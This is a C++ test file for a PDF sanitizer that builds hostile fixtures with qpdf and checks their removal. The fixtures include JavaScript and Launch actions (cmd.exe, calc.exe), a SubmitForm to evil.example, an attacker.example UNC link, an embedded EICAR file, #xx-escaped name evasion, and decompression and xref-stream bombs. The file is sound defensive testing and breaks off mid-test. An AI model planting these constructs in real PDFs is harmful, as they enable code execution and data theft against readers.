// sanitizer.pdf: fixtures built with qpdf at test time (text pages plus every kind of active
// content), checked with independent tools: qpdf --check, a QDF dump searched for the removed
// keys, pdftotext for the text, clamscan with the repo's test signatures for the embedded EICAR.
#include "sanitizers/pdf/pdf.h"

#include <algorithm>
#include <atomic>
#include <fstream>
#include <functional>
#include <memory>
#include <qpdf/Pl_Buffer.hh>
#include <qpdf/Pl_Flate.hh>
#include <qpdf/QPDF.hh>
#include <qpdf/QPDFObjectHandle.hh>
#include <qpdf/QPDFPageDocumentHelper.hh>
#include <qpdf/QPDFWriter.hh>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "sanitizers/pdf/prescan.h"
#include "support/sanitizer_run.h"
#include "support/test_support.h"
#include "support/tools.h"

namespace {

using mugai::Outcome;
using mugai::Part;
using mugai::Reason;
using mugai::Verdict;
namespace mp = mugai::sanitizers::pdf;
namespace mt = mugai::test;
using QOH = QPDFObjectHandle;

std::shared_ptr<const mugai::Sanitizer> makeSanitizer(std::map<std::string, std::string> p = {}) {
  std::string error;
  auto s = mp::makeFactory()->create(mugai::SanitizerParams(std::move(p)), &error);
  INFO(error);
  REQUIRE(s);
  return s;
}

struct Harness {
  mugai::Limits limits;
  mugai::Budget budget{limits};
  Outcome run(const mugai::Sanitizer& s, const std::string& data) {
    mugai::MessageContext ctx{limits, budget};
    Part p;
    p.data = data;
    p.detected.mime = "application/pdf";
    p.filename = mugai::Untrusted<std::string>("doc.pdf");
    p.attachment = true;
    return s.apply(p, ctx);
  }
};

QOH parse(QPDF& pdf, const std::string& text) { return QOH::parse(&pdf, text); }

/// `s` applied to the PDF `data` with an item deadline of `ms` milliseconds from now.
Outcome withDeadline(const mugai::Sanitizer& s, const std::string& data, int ms) {
  mugai::Limits limits;
  limits.sanitizer_deadline_ms = ms;
  mugai::Budget budget(limits);
  mugai::MessageContext ctx{limits, budget};
  Part p;
  p.data = data;
  p.detected.mime = "application/pdf";
  return s.apply(p, ctx);
}

/// `in` through the default rebuild, which must modify it: the rebuilt bytes.
std::string rebuilt(const std::string& in) {
  Harness h;
  Outcome o = h.run(*makeSanitizer(), in);
  REQUIRE(o.verdict == Verdict::Modified);
  return o.replacement->data;
}

/// A resources dictionary holding `value` as `key` of `category` ("/Font", "/XObject").
QOH resourcesWith(const char* category, const char* key, const QOH& value) {
  QOH inner = QOH::newDictionary();
  inner.replaceKey(key, value);
  QOH resources = QOH::newDictionary();
  resources.replaceKey(category, inner);
  return resources;
}

/// Adds one US-letter page drawing `content` with `resources` to `pdf`, and returns the file.
std::string onePageFile(QPDF& pdf, const QOH& resources, const std::string& content) {
  QOH page = parse(pdf, "<< /Type /Page /MediaBox [0 0 612 792] >>");
  page.replaceKey("/Resources", resources);
  page.replaceKey("/Contents", pdf.newStream(content));
  QPDFPageDocumentHelper(pdf).addPage(QPDFPageObjectHelper(pdf.makeIndirectObject(page)), false);
  QPDFWriter w(pdf);
  w.setOutputMemory();
  w.write();
  auto buf = w.getBufferSharedPointer();
  return std::string(reinterpret_cast<const char*>(buf->getBuffer()), buf->getSize());
}

enum class Crypt { None, EmptyUser, UserPassword };

/// `pages` pages, each showing "Mugai page N" in Helvetica; `decorate` adds the hostile parts.
std::string buildPdf(int pages, const std::function<void(QPDF&, std::vector<QOH>&)>& decorate = {},
                     Crypt crypt = Crypt::None) {
  QPDF pdf;
  pdf.emptyPDF();
  QOH font = pdf.makeIndirectObject(parse(
      pdf, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"));
  std::vector<QOH> page_objs;
  for (int i = 1; i <= pages; ++i) {
    QOH contents =
        pdf.newStream("BT /F1 24 Tf 72 700 Td (Mugai page " + std::to_string(i) + ") Tj ET\n");
    QOH page = parse(pdf, "<< /Type /Page /MediaBox [0 0 612 792] >>");
    QOH fonts = QOH::newDictionary();
    fonts.replaceKey("/F1", font);
    QOH res = QOH::newDictionary();
    res.replaceKey("/Font", fonts);
    page.replaceKey("/Resources", res);
    page.replaceKey("/Contents", contents);
    page = pdf.makeIndirectObject(page);
    QPDFPageDocumentHelper(pdf).addPage(QPDFPageObjectHelper(page), false);
    page_objs.push_back(page);
  }
  if (decorate) decorate(pdf, page_objs);
  QPDFWriter w(pdf);
  w.setOutputMemory();
  w.setStaticID(true);
  w.setPreserveUnreferencedObjects(true);  // orphans stay in the file: the sanitizer must find them
  w.setCompressStreams(false);  // the embedded EICAR stays visible to clamscan in the input
  if (crypt == Crypt::EmptyUser)
    w.setR6EncryptionParameters("", "owner-secret", true, true, true, true, true, true,
                                qpdf_r3p_full, true);
  if (crypt == Crypt::UserPassword)
    w.setR6EncryptionParameters("user-secret", "owner-secret", true, true, true, true, true, true,
                                qpdf_r3p_full, true);
  w.write();
  auto buf = w.getBufferSharedPointer();
  return std::string(reinterpret_cast<const char*>(buf->getBuffer()), buf->getSize());
}

void addAnnot(QOH page, QOH annot) {
  if (!page.getKey("/Annots").isArray()) page.replaceKey("/Annots", QOH::newArray());
  page.getKey("/Annots").appendItem(annot);
}

/// Every kind of active content the sanitizer must remove, on a 3-page document.
std::string hostilePdf() {
  return buildPdf(3, [](QPDF& pdf, std::vector<QOH>& pages) {
    QOH root = pdf.getRoot();
    QOH js =
        pdf.makeIndirectObject(parse(pdf, "<< /S /JavaScript /JS (app.alert\\('names'\\)) >>"));
    QOH names = QOH::newDictionary();
    QOH jstree = QOH::newDictionary();
    jstree.replaceKey("/Names", QOH::newArray(std::vector<QOH>{QOH::newString("init"), js}));
    names.replaceKey("/JavaScript", jstree);
    // Embedded file: EICAR from the build-time generator (never in source).
    std::string eicar = mt::readFile(mt::generatedDir() / "eicar.com");
    QOH ef = pdf.newStream(eicar);
    ef.getDict().replaceKey("/Type", QOH::newName("/EmbeddedFile"));
    QOH efdict = QOH::newDictionary();
    efdict.replaceKey("/F", ef);
    QOH filespec = parse(pdf, "<< /Type /Filespec /F (eicar.com) /UF (eicar.com) >>");
    filespec.replaceKey("/EF", efdict);
    filespec = pdf.makeIndirectObject(filespec);
    QOH eftree = QOH::newDictionary();
    eftree.replaceKey("/Names",
                      QOH::newArray(std::vector<QOH>{QOH::newString("eicar.com"), filespec}));
    names.replaceKey("/EmbeddedFiles", eftree);
    root.replaceKey("/Names", names);
    root.replaceKey("/AF", QOH::newArray(std::vector<QOH>{filespec}));
    root.replaceKey(
        "/OpenAction",
        parse(pdf, "<< /S /JavaScript /JS (this.exportDataObject\\({cName: 'x'}\\)) >>"));
    root.replaceKey("/AA", parse(pdf, "<< /WC << /S /JavaScript /JS (1) >> >>"));
    QOH xfa = pdf.newStream("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"></xdp:xdp>");
    QOH acro = parse(pdf, "<< /Fields [] /NeedsRendering true >>");
    acro.replaceKey("/XFA", xfa);
    root.replaceKey("/AcroForm", acro);

    pages[0].replaceKey("/AA", parse(pdf, "<< /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"));
    pages[2].replaceKey("/AA", parse(pdf, "<< /C << /S /Launch /F (cmd.exe) >> >>"));
    addAnnot(pages[0],
             pdf.makeIndirectObject(
                 parse(pdf,
                       "<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /Launch /F "
                       "(calc.exe) /Win << /F (calc.exe) >> >> >>")));
    addAnnot(pages[0],
             pdf.makeIndirectObject(
                 parse(pdf,
                       "<< /Type /Annot /Subtype /Link /Rect [72 560 300 580] /A << /S /SubmitForm "
                       "/F << /FS /URL /F (http://evil.example/) >> >> >>")));
    addAnnot(pages[1],
             pdf.makeIndirectObject(
                 parse(pdf,
                       "<< /Type /Annot /Subtype /Link /Rect [72 520 300 540] /A << /S /GoToR /F "
                       "(other.pdf) /D [0 /Fit] >> >>")));
    addAnnot(pages[1],
             pdf.makeIndirectObject(
                 parse(pdf,
                       "<< /Type /Annot /Subtype /Link /Rect [72 480 300 500] /A << /S /ImportData "
                       "/F (data.fdf) /Next << /S /JavaScript /JS (2) >> >> >>")));
    addAnnot(pages[1],
             pdf.makeIndirectObject(
                 parse(pdf,
                       "<< /Type /Annot /Subtype /Link /Rect [72 440 300 460] /A << /S /URI /URI "
                       "(https://www.example.org/) >> >>")));
    addAnnot(pages[1], pdf.makeIndirectObject(
                           parse(pdf,
                                 "<< /Type /Annot /Subtype /RichMedia /Rect [72 300 300 400] "
                                 "/RichMediaContent << /Assets << /Names [] >> >> >>")));
    QOH att = parse(
        pdf, "<< /Type /Annot /Subtype /FileAttachment /Rect [72 200 100 230] /Name /Paperclip >>");
    att.replaceKey("/FS", filespec);
    addAnnot(pages[2], pdf.makeIndirectObject(att));
    // A widget whose /AA runs a script, and a PostScript XObject in the page resources.
    QOH widget = parse(pdf,
                       "<< /Type /Annot /Subtype /Widget /Rect [72 100 200 120] /FT /Tx /T (name) "
                       "/AA << /K << /S /JavaScript /JS (3) >> >> >>");
    widget.replaceKey("/P", pages[1]);
    widget = pdf.makeIndirectObject(widget);
    addAnnot(pages[1], widget);
    acro.replaceKey("/Fields", QOH::newArray(std::vector<QOH>{widget}));
    QOH ps = pdf.newStream("%!PS\n/Helvetica findfont\n");
    ps.getDict().replaceKey("/Type", QOH::newName("/XObject"));
    ps.getDict().replaceKey("/Subtype", QOH::newName("/PS"));
    QOH xobjects = QOH::newDictionary();
    xobjects.replaceKey("/PS1", ps);
    pages[2].getKey("/Resources").replaceKey("/XObject", xobjects);
    // An unreachable JavaScript action: not referenced from anything (still must not survive).
    pdf.makeIndirectObject(parse(pdf, "<< /S /JavaScript /JS (orphan) >>"));
  });
}

/// The names that must not appear in the output's QDF form (outside stream bodies).
const std::vector<std::string> kForbidden = {"/JavaScript",    "/JS",
                                             "/OpenAction",    "/AA",
                                             "/Launch",        "/SubmitForm",
                                             "/ImportData",    "/GoToR",
                                             "/GoToE",         "/RichMedia",
                                             "/XFA",           "/EmbeddedFile",
                                             "/EmbeddedFiles", "/FileAttachment"};

bool isDelimiter(char c) {
  return std::string(" \t\r\n\f", 5).find(c) != std::string::npos ||
         std::string("()<>[]{}/%").find(c) != std::string::npos || c == '\0';
}

/// Which of `names` occur as whole PDF name tokens in `qdf`, stream bodies skipped.
std::vector<std::string> namesFound(const std::string& qdf, const std::vector<std::string>& names) {
  std::string dicts;
  std::size_t pos = 0;
  while (pos < qdf.size()) {
    std::size_t s = qdf.find("\nstream\n", pos);
    if (s == std::string::npos) {
      dicts.append(qdf, pos, std::string::npos);
      break;
    }
    dicts.append(qdf, pos, s - pos);
    std::size_t e = qdf.find("\nendstream", s + 8);
    pos = e == std::string::npos ? qdf.size() : e + 10;
  }
  std::vector<std::string> found;
  for (const auto& n : names) {
    for (std::size_t at = dicts.find(n); at != std::string::npos; at = dicts.find(n, at + 1)) {
      std::size_t end = at + n.size();
      if (end == dicts.size() || isDelimiter(dicts[end])) {
        found.push_back(n);
        break;
      }
    }
  }
  return found;
}

/// qpdf --check passes, and the QDF form has none of `names`. @return the QDF text.
std::string checkWithQpdf(const std::string& pdf,
                          const std::vector<std::string>& names = kForbidden) {
  mt::TempDir dir;
  mt::writeFile(dir.path() / "out.pdf", pdf);
  auto check = mt::runTool({"qpdf", "--check", (dir.path() / "out.pdf").string()});
  INFO(check.output);
  CHECK(check.exit_code == 0);
  auto qdf = mt::runTool({"qpdf", "--qdf", "--object-streams=disable",
                          (dir.path() / "out.pdf").string(), (dir.path() / "qdf.pdf").string()});
  INFO(qdf.output);
  REQUIRE((qdf.exit_code == 0 || qdf.exit_code == 3));
  std::string text = mt::readFile(dir.path() / "qdf.pdf");
  CHECK(namesFound(text, names).empty());
  return text;
}

std::string pdfText(const std::string& pdf) {
  mt::TempDir dir;
  mt::writeFile(dir.path() / "in.pdf", pdf);
  auto r = mt::runTool({"pdftotext", (dir.path() / "in.pdf").string(), "-"});
  return r.exit_code == 0 ? r.output : std::string();
}

int pageCount(const std::string& pdf) {
  QPDF q;
  q.setSuppressWarnings(true);
  q.processMemoryFile("check", pdf.data(), pdf.size());
  return static_cast<int>(QPDFPageDocumentHelper(q).getAllPages().size());
}

bool hasFinding(const Outcome& o, const std::string& value) {
  return mt::hasFinding(o, "removed", value);
}
using mt::findingsText;

}  // namespace

TEST_CASE("pdf: the hostile fixture really carries what the checks look for", "[pdf]") {
  if (mt::toolMissing("qpdf")) return;
  std::string in = hostilePdf();
  mt::TempDir dir;
  mt::writeFile(dir.path() / "in.pdf", in);
  REQUIRE(mt::runTool({"qpdf", "--qdf", "--object-streams=disable",
                       (dir.path() / "in.pdf").string(), (dir.path() / "qdf.pdf").string()})
              .exit_code == 0);
  auto found = namesFound(mt::readFile(dir.path() / "qdf.pdf"), kForbidden);
  // Everything but GoToE (not in this fixture) is present before sanitizing.
  CHECK(found.size() == kForbidden.size() - 1);
  if (!mt::toolMissing("clamscan")) {
    auto scan = mt::runTool({"clamscan", "--no-summary", "-d",
                             (mt::sourceDir() / "rules" / "signatures").string(),
                             (dir.path() / "in.pdf").string()});
    CHECK(scan.exit_code == 1);  // the embedded EICAR is found in the input
  }
}

TEST_CASE("pdf: rebuild removes every kind of active content and keeps the text", "[pdf]") {
  auto s = makeSanitizer();
  Harness h;
  std::string in = hostilePdf();
  Outcome o = h.run(*s, in);
  INFO(o.detail << "\n" << findingsText(o));
  REQUIRE(o.verdict == Verdict::Modified);
  REQUIRE(o.reason == Reason::CdrRebuilt);
  REQUIRE(o.replacement);
  const std::string& out = o.replacement->data;
  CHECK(pageCount(out) == 3);

  CHECK(hasFinding(o, "/JavaScript (names tree)"));
  CHECK(hasFinding(o, "/OpenAction"));
  CHECK(hasFinding(o, "/AA on catalog"));
  CHECK(hasFinding(o, "/AA on page 1"));
  CHECK(hasFinding(o, "/AA on page 3"));
  CHECK(hasFinding(o, "/EmbeddedFiles (names tree)"));
  CHECK(hasFinding(o, "embedded file eicar.com"));
  CHECK(hasFinding(o, "/XFA (XML form)"));
  CHECK(hasFinding(o, "/AF (associated files)"));
  CHECK(hasFinding(o, "Launch action"));
  CHECK(hasFinding(o, "SubmitForm action"));
  CHECK(hasFinding(o, "GoToR action"));
  CHECK(hasFinding(o, "ImportData action"));
  CHECK(hasFinding(o, "RichMedia annotation on page 2"));
  CHECK(hasFinding(o, "FileAttachment annotation on page 3"));
  CHECK(hasFinding(o, "/AA on annotation on page 2"));
  // Counted once each: the names-tree script and the orphan nobody references.
  CHECK(std::count_if(o.findings.begin(), o.findings.end(),
                      [](const mugai::Finding& f) { return f.value == "JavaScript action"; }) == 2);
  CHECK(hasFinding(o, "PostScript XObject on page 3"));

  if (!mt::toolMissing("qpdf")) {
    std::string qdf = checkWithQpdf(out);
    // The AcroForm stays (minus XFA); the web link stays (links: keep).
    CHECK(namesFound(qdf, {"/AcroForm", "/URI", "/Widget"}).size() == 3);
    CHECK(namesFound(qdf, {"/PS"}).empty());
  }
  if (!mt::toolMissing("pdftotext")) {
    std::string text = pdfText(out);
    CHECK(text.find("Mugai page 1") != std::string::npos);
    CHECK(text.find("Mugai page 3") != std::string::npos);
  }
  if (!mt::toolMissing("clamscan")) {
    mt::TempDir dir;
    mt::writeFile(dir.path() / "out.pdf", out);
    auto scan = mt::runTool({"clamscan", "--no-summary", "-d",
                             (mt::sourceDir() / "rules" / "signatures").string(),
                             (dir.path() / "out.pdf").string()});
    INFO(scan.output);
    CHECK(scan.exit_code == 0);
  }
}

TEST_CASE("pdf: links remove drops URI actions, links keep leaves them", "[pdf]") {
  if (mt::toolMissing("qpdf")) return;
  Harness h;
  std::string in = hostilePdf();
  Outcome o = h.run(*makeSanitizer({{"links", "remove"}}), in);
  REQUIRE(o.verdict == Verdict::Modified);
  CHECK(hasFinding(o, "URI action"));
  std::vector<std::string> names = kForbidden;
  names.push_back("/URI");
  checkWithQpdf(o.replacement->data, names);
}

TEST_CASE("pdf: a clean document is rebuilt, says nothing was active, and rebuilds again the same",
          "[pdf]") {
  auto s = makeSanitizer();
  Harness h;
  Outcome o = h.run(*s, buildPdf(2));
  REQUIRE(o.verdict == Verdict::Modified);
  CHECK(o.findings.size() == 2);
  CHECK(findingsText(o).find("active_content=none") != std::string::npos);
  // Idempotent: the rebuilt file has nothing to remove either.
  Outcome again = h.run(*s, o.replacement->data);
  REQUIRE(again.verdict == Verdict::Modified);
  CHECK(findingsText(again).find("active_content=none") != std::string::npos);
  CHECK(pageCount(again.replacement->data) == 2);
  if (!mt::toolMissing("qpdf")) checkWithQpdf(again.replacement->data);
}

TEST_CASE("pdf: findings are aggregated per kind on a long document", "[pdf]") {
  Harness h;
  std::string in = buildPdf(300, [](QPDF& pdf, std::vector<QOH>& pages) {
    for (auto& p : pages) p.replaceKey("/AA", parse(pdf, "<< /O << /S /JavaScript /JS (1) >> >>"));
  });
  Outcome o = h.run(*makeSanitizer(), in);
  REQUIRE(o.verdict == Verdict::Modified);
  INFO(findingsText(o));
  CHECK(o.findings.size() < 10);
  CHECK(hasFinding(o, "/AA on page 1"));
  CHECK(hasFinding(o, "/AA: 295 more"));
  // The 300 scripts are the same bytes: their hash is listed once, for the vault.
  CHECK(mugai::test::findingSha256(o, "removed", "/AA on page 1").empty());
  CHECK(mugai::test::findingSha256(o, "removed_object", "/AA on page 1 /O") == mugai::test::opensslSha256("1"));
}

TEST_CASE("pdf: empty user password is decrypted, a real password is refused", "[pdf]") {
  auto s = makeSanitizer();
  Harness h;
  SECTION("empty user password") {
    std::string in = buildPdf(
        2,
        [](QPDF& pdf, std::vector<QOH>&) {
          pdf.getRoot().replaceKey("/OpenAction", parse(pdf, "<< /S /JavaScript /JS (1) >>"));
        },
        Crypt::EmptyUser);
    Outcome o = h.run(*s, in);
    INFO(o.detail);
    REQUIRE(o.verdict == Verdict::Modified);
    CHECK(findingsText(o).find("decrypted=empty user password") != std::string::npos);
    CHECK(hasFinding(o, "/OpenAction"));
    if (!mt::toolMissing("qpdf")) {
      std::string qdf = checkWithQpdf(o.replacement->data);
      CHECK(namesFound(qdf, {"/Encrypt"}).empty());
    }
    if (!mt::toolMissing("pdftotext"))
      CHECK(pdfText(o.replacement->data).find("Mugai page 2") != std::string::npos);
  }
  SECTION("user password needed") {
    std::string in = buildPdf(1, {}, Crypt::UserPassword);
    Outcome o = h.run(*s, in);
    CHECK(o.reason == Reason::ContentEncrypted);
    CHECK_FALSE(o.replacement);
    Outcome f = h.run(*makeSanitizer({{"mode", "flatten"}}), in);
    CHECK(f.reason == Reason::ContentEncrypted);
  }
}

TEST_CASE("pdf: damaged documents are recovered or refused, never passed as they are", "[pdf]") {
  auto s = makeSanitizer();
  Harness h;
  std::string good = buildPdf(3);
  SECTION("garbage xref: qpdf reconstructs it") {
    std::string bad = good;
    std::size_t x = bad.rfind("xref");
    REQUIRE(x != std::string::npos);
    for (std::size_t i = x; i < bad.size() && i < x + 80; ++i) bad[i] = 'Z';
    Outcome o = h.run(*s, bad);
    INFO(o.detail);
    REQUIRE(o.verdict == Verdict::Modified);
    CHECK(pageCount(o.replacement->data) == 3);
    if (!mt::toolMissing("qpdf")) checkWithQpdf(o.replacement->data);
  }
  SECTION("truncated") {
    Outcome o = h.run(*s, good.substr(0, good.size() / 2));
    INFO(o.detail);
    if (o.verdict == Verdict::Modified) {
      if (!mt::toolMissing("qpdf")) checkWithQpdf(o.replacement->data);
    } else {
      CHECK(o.reason == Reason::CdrFailed);
    }
  }
  SECTION("no pages at all") {
    Outcome o = h.run(
        *s, "%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
    CHECK(o.reason == Reason::CdrFailed);
  }
  SECTION("not a PDF") {
    Outcome o = h.run(*s, std::string(4096, '\x01'));
    CHECK(o.reason == Reason::CdrFailed);
    Outcome f = h.run(*makeSanitizer({{"mode", "flatten"}}), std::string(4096, '\x01'));
    CHECK(f.reason == Reason::CdrFailed);
  }
}

TEST_CASE("pdf: limits - object count, deadline, decoded bytes", "[pdf]") {
  auto s = makeSanitizer();
  std::string in = buildPdf(20);
  SECTION("document_object_limit") {
    Harness h;
    h.limits.document_object_limit = 16;
    CHECK(h.run(*s, in).reason == Reason::LimitDocumentObjects);
  }
  SECTION("deadline already passed") {
    mugai::Limits limits;
    mugai::Budget budget(limits, mugai::Budget::Clock::now() - std::chrono::hours(1));
    mugai::MessageContext ctx{limits, budget};
    Part p;
    p.data = buildPdf(600);  // > 256 objects: the scrub loop checks the deadline
    CHECK(s->apply(p, ctx).reason == Reason::LimitTime);
  }
  SECTION("decoded bytes") {
    Harness h;
    h.limits.decoded_bytes_limit = 1024;
    CHECK(h.run(*s, in).reason == Reason::LimitDecodedBytes);
  }
}

TEST_CASE(
    "pdf: hostile structures - loops, action chains, escaped names, odd links, nesting, bombs",
    "[pdf]") {
  auto s = makeSanitizer();
  Harness h;
  SECTION("a GoTo open action whose /Next chain loops and hides JavaScript") {
    std::string in = buildPdf(2, [](QPDF& pdf, std::vector<QOH>& pages) {
      QOH a = pdf.makeIndirectObject(parse(pdf, "<< /S /GoTo /D [0 /Fit] >>"));
      QOH b = pdf.makeIndirectObject(parse(pdf, "<< /S /GoTo /D [0 /Fit] >>"));
      QOH js = pdf.makeIndirectObject(parse(pdf, "<< /S /JavaScript /JS (evil) >>"));
      a.replaceKey("/Next", QOH::newArray(std::vector<QOH>{b, js}));
      b.replaceKey("/Next", a);  // a -> b -> a
      pages[1].replaceKey("/AA", QOH::newDictionary());
      pages[1].getKey("/AA").replaceKey("/O", a);
      // An outline entry running the same chain, and a page that refers to itself.
      QOH outline = pdf.makeIndirectObject(parse(pdf, "<< /Title (x) >>"));
      outline.replaceKey("/A", a);
      QOH outlines = pdf.makeIndirectObject(parse(pdf, "<< /Type /Outlines /Count 1 >>"));
      outlines.replaceKey("/First", outline);
      outlines.replaceKey("/Last", outline);
      outline.replaceKey("/Parent", outlines);
      pdf.getRoot().replaceKey("/Outlines", outlines);
      pages[0].replaceKey("/Self", pages[0]);
    });
    Outcome o = h.run(*s, in);
    INFO(o.detail << findingsText(o));
    REQUIRE(o.verdict == Verdict::Modified);
    CHECK(hasFinding(o, "JavaScript action"));
    CHECK(hasFinding(o, "/AA on page 2"));
    if (!mt::toolMissing("qpdf")) {
      std::string qdf = checkWithQpdf(o.replacement->data);
      CHECK(namesFound(qdf, {"/GoTo", "/Outlines"}).size() == 2);  // navigation stays
    }
  }
  SECTION("names written with #xx escapes are the same names") {
    std::string in = buildPdf(1, [](QPDF& pdf, std::vector<QOH>& pages) {
      pages[0].replaceKey("/AA", parse(pdf, "<< /O << /S /JavaScript /JS (1) >> >>"));
      pdf.getRoot().replaceKey("/OpenAction", parse(pdf, "<< /S /Launch /F (cmd.exe) >>"));
    });
    // /J#53 is /JS, /A#41 is /AA, /#4Aava#53cript is /JavaScript, /Launc#68 is /Launch
    auto replaceAll = [&in](const std::string& from, const std::string& to) {
      for (std::size_t at = in.find(from); at != std::string::npos;
           at = in.find(from, at + to.size()))
        in.replace(at, from.size(), to);
    };
    replaceAll("/JavaScript", "/#4Aava#53cript");
    replaceAll("/JS ", "/J#53 ");
    replaceAll("/AA ", "/A#41 ");
    replaceAll("/Launch", "/Launc#68");
    REQUIRE(in.find("/J#53") != std::string::npos);
    Outcome o = h.run(*s, in);  // offsets moved: qpdf rebuilds the xref
    INFO(o.detail << findingsText(o));
    REQUIRE(o.verdict == Verdict::Modified);
    CHECK(hasFinding(o, "/AA on page 1"));
    CHECK(hasFinding(o, "/OpenAction"));
    if (!mt::toolMissing("qpdf")) checkWithQpdf(o.replacement->data);
    CHECK(o.replacement->data.find('#') == std::string::npos);
  }
  SECTION("links: keep keeps web and mail links only") {
    std::string in = buildPdf(1, [](QPDF& pdf, std::vector<QOH>& pages) {
      for (const char* uri :
           {"https://www.example.org/", "MAILTO:a@example.org",
            "file:///C:/Windows/system32/calc.exe", "\\\\\\\\attacker.example\\\\share\\\\x",
            "javascript:app.alert(1)"}) {
        QOH link = parse(pdf, "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] >>");
        QOH action = parse(pdf, "<< /S /URI >>");
        action.replaceKey("/URI", QOH::newString(uri));
        link.replaceKey("/A", action);
        addAnnot(pages[0], pdf.makeIndirectObject(link));
      }
    });
    Outcome o = h.run(*s, in);
    REQUIRE(o.verdict == Verdict::Modified);
    INFO(findingsText(o));
    CHECK(findingsText(o).find("URI action") != std::string::npos);
    const std::string& out = o.replacement->data;
    CHECK(out.find("https://www.example.org/") != std::string::npos);
    CHECK(out.find("MAILTO:a@example.org") != std::string::npos);
    CHECK(out.find("calc.exe") == std::string::npos);
    CHECK(out.find("attacker.example") == std::string::npos);
    CHECK(out.find("javascript:") == std::string::npos);
  }
  SECTION("direct objects nested deeper than 100 levels fail closed") {
    std::string in = buildPdf(1, [](QPDF& pdf, std::vector<QOH>& pages) {
      pages[0].replaceKey("/Deep", parse(pdf, std::string(150, '[') + std::string(150, ']')));
    });
    Outcome o = h.run(*s, in);
    CHECK(o.reason == Reason::CdrFailed);
  }
  SECTION("a flate bomb in page content stops at expanded_size_limit") {
    std::string in = buildPdf(1, [](QPDF& pdf, std::vector<QOH>& pages) {
      // 4 MiB of spaces, Flate-compressed by the writer below (a few KB).
      QOH bomb = pdf.newStream(std::string(4 << 20, ' '));
      pages[0].replaceKey("/Contents",
                          QOH::newArray(std::vector<QOH>{pages[0].getKey("/Contents"), bomb}));
    });
    // buildPdf writes uncompressed; compress this one so the bomb is small on the wire.
    QPDF q;
    q.setSuppressWarnings(true);
    q.processMemoryFile("bomb", in.data(), in.size());
    QPDFWriter w(q);
    w.setOutputMemory();
    w.setCompressStreams(true);
    w.write();
    auto buf = w.getBufferSharedPointer();
    std::string packed(reinterpret_cast<const char*>(buf->getBuffer()), buf->getSize());
    REQUIRE(packed.size() < 100000);
    Harness tight;
    tight.limits.expanded_size_limit = 1 << 20;
    CHECK(tight.run(*s, packed).reason == Reason::LimitExpandedSize);
    CHECK(h.run(*s, packed).verdict == Verdict::Modified);  // 4 MiB is within the default
  }
}

TEST_CASE("pdf: declared object counts are read before qpdf parses (xref stream bomb)", "[pdf]") {
  using mp::declaredObjectCount;
  CHECK(declaredObjectCount("trailer << /Size 42 /Root 1 0 R >>") == 42);
  CHECK(declaredObjectCount("<< /#53ize 9000 >>") == 9000);        // #xx escapes decode
  CHECK(declaredObjectCount("<< /Size % comment\n 77 >>") == 77);  // comments are white space
  CHECK(declaredObjectCount("<< /Index [0 10 500 2000000] /Size 12 >>") == 2000010);
  CHECK(declaredObjectCount("<< /FunctionType 0 /Size [2 2] /Sizes 99999999 >>") == 0);
  CHECK(declaredObjectCount("/Size") == 0);
  CHECK(declaredObjectCount("/Size 99999999999999999999999999") == (UINT64_C(1) << 40));

  // A 26 KB file whose Flate-compressed xref stream declares 3 million entries (qpdf alone: ~380 MB
  // and seconds before anything can be counted).
  const std::uint64_t n = 3000000;
  std::string body = "%PDF-1.5\n";
  std::vector<std::size_t> offs;
  for (const char* o :
       {"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n",
        "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
        "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>\nendobj\n"}) {
    offs.push_back(body.size());
    body += o;
  }
  const std::size_t xoff = body.size();
  auto entry = [](std::string& e, int type, std::size_t off, int gen) {
    e.push_back(static_cast<char>(type));
    for (int sh = 24; sh >= 0; sh -= 8) e.push_back(static_cast<char>((off >> sh) & 0xff));
    e.push_back(static_cast<char>(gen));
  };
  std::string entries;
  entry(entries, 0, 0, 255);
  for (auto off : offs) entry(entries, 1, off, 0);
  entry(entries, 1, xoff, 0);
  while (entries.size() < n * 6) entry(entries, 1, offs[2], 0);
  Pl_Buffer packed("xref");
  Pl_Flate flate("deflate", &packed, Pl_Flate::a_deflate);
  flate.write(reinterpret_cast<const unsigned char*>(entries.data()), entries.size());
  flate.finish();
  auto buf = packed.getBufferSharedPointer();
  std::string data(reinterpret_cast<const char*>(buf->getBuffer()), buf->getSize());
  body += "4 0 obj\n<< /Type /XRef /Size " + std::to_string(n) +
          " /W [1 4 1] /Root 1 0 R /Filter /FlateDecode /Length " + std::to_string(data.size()) +
          " >>\nstream\n" + data + "\nendstream\nendobj\nstartxref\n" + std::to_string(xoff) +
          "\n%%EOF\n";
  REQUIRE(body.size() < 100000);
  Harness h;
  Outcome o = h.run(*makeSanitizer(), body);
  CHECK(o.reason == Reason::LimitDocumentObjects);
  CHECK(h.run(*makeSanitizer({{"mode", "flatten"}}), body).reason == Reason::LimitDocumentObjects);
}

TEST_CASE("pdf: mutated hostile documents never crash and never come out with active content",
          "[pdf]") {
  auto rebuild = makeSanitizer();
  auto flatten = makeSanitizer({{"mode", "flatten"}, {"flatten_dpi", "36"}});
  const std::string base = hostilePdf();
  std::uint32_t x = 2463534242u;  // xorshift: the same mutations on every run
  auto next = [&x] {
    x ^= x << 13;
    x ^= x >> 17;
    x ^= x << 5;
    return x;
  };
  int modified = 0, refused = 0;
  std::map<std::string, int> reasons;
  for (int round = 0; round < 500; ++round) {
    std::string m = base;
    int edits = 1 + static_cast<int>(next() % 8);
    for (int e = 0; e < edits; ++e) {
      std::size_t at = next() % m.size();
      std::uint32_t kind = next() % 16;
      if (kind < 6) {
        m[at] = static_cast<char>(next());  // flip a byte
      } else if (kind < 10) {
        m.erase(at, std::min<std::size_t>(m.size() - at, next() % 64));  // cut a piece out
      } else if (kind < 15) {
        m.insert(at, std::string(1 + next() % 16, static_cast<char>(next())));  // insert junk
      } else {
        m.resize(std::max<std::size_t>(16, at));  // truncate
      }
    }
    INFO("round " << round);
    Harness h;
    Outcome o = h.run(*rebuild, m);
    if (o.verdict == Verdict::Modified) {
      ++modified;
